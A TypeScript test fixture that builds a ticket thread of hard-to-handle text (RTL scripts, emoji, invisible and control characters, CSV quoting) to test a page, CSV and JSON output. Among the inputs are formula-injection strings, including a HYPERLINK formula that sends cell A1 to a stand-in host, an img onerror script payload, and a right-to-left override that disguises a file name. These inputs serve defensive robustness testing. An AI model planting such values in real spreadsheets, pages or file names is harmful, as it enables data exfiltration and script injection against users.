import { threadOf } from '../account/thread.ts';
import type { WorldOptions, Thread } from '../account/world.ts';
import { awkwardWriter } from './awkward-writer.ts';
import { johnny, maria } from './people.ts';

/** Right-to-left text, an emoji, and markup that is plain text. */
const SUBJECT = 'מדפסת 🔥 <b>not bold</b> &amp; طابعة';

/** Characters that can break the page, a CSV file or JSON. */
export function awkwardTexts(options: WorldOptions): Thread {
  const { id, create, reply, message } = awkwardWriter(options, SUBJECT);
  const named = (name: string) => ({
    ...reply(`named ${name}`, 'The sender’s name is a formula.'),
    actor: { ...maria, name },
  });
  const events = [
    create('create', 'Texts that break things follow.'),
    reply('emoji', 'Family 👨‍👩‍👧‍👦, flag 🏳️‍🌈, skin 👍🏽, keycap 1️⃣ and an astral 𝒜.'),
    reply('hebrew', 'שלום, המדפסת עולה באש! Order 20817 (דחוף).'),
    reply('arabic', 'مرحبًا، الطابعة تحترق! Please call ‎+49 30 123456‎.'),
    reply(
      'zero width',
      'Zero\u200bwidth\u200cjoiners\u200d and a\u2060 word joiner, a soft\u00adhyphen, a \ufeffBOM.',
    ),
    reply('direction override', 'An override: \u202egnp.exe\u202c and an isolate \u2067abc\u2069.'),
    reply('lone surrogates', 'High \ud800 and low \udc00 alone, and swapped \udc00\ud800.'),
    reply('nul', 'NUL \u0000, bell \u0007, escape \u001b[31m, delete \u007f.'),
    reply('windows newlines', 'Line one\r\nLine two\r\n\r\nParagraph two\rOld Mac line'),
    reply('separators', 'A line separator \u2028 and a paragraph separator \u2029.'),
    reply('csv', 'quotes " and ""double"" ones, a comma, a semicolon; a tab\there'),
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1'].map((text) =>
      reply(`cell ${text}`, `${text} begins like a formula`),
    ),
    named('=HYPERLINK("https://elsewhere.example/?"&A1,"click")'),
    named('<img src=x onerror="top.hostile = 5">'),
    reply('long word', 'Donaudampfschiffahrts'.repeat(20)),
    message('subject of its own', { subject: `${'A subject that goes on '.repeat(20)}and on` }),
  ];
  return threadOf(
    { id, ticketId: 1, origin: options.origin, subject: SUBJECT, participants: [johnny, maria] },
    events,
  );
}
